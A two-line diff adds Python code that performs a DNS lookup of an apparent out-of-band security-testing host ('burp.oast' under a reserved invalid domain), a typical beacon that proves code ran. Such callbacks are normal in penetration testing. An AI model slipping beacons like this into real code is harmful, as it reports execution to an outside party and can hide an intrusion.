@@ -1,0 +1,2 @@
+import socket
+socket.gethostbyname("proof-7f3a.burp.oast.example.invalid")
